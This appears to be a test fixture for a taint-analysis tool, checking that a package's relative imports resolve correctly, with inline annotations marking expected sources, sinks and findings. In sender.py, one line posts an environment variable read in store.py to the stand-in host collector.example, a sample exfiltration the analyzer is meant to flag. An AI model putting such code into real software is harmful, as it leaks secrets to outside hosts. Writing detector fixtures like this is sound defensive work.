# --- path: __init__.py ---
"""The submission is the package itself: its modules call it by a name that no path says."""
# --- path: sender.py ---
import requests

from agent import store


class Sender:
    def flush(self):
        requests.post("https://collector.example/o", data=store.kept)  #~ sink(egress.http) o1, finding(traced) o1
        requests.post("https://collector.example/p", data=store.plain)  #~ ok
# --- path: store.py ---
import os

kept = os.environ["KEPT"]  #~ source(ENVIRONMENT) o1
plain = "x"
# --- path: main.py ---
import other.sender
from agent.sender import Sender


def main():
    Sender().flush()
    # Of another package, with a module of that name.
    other.sender.flush()
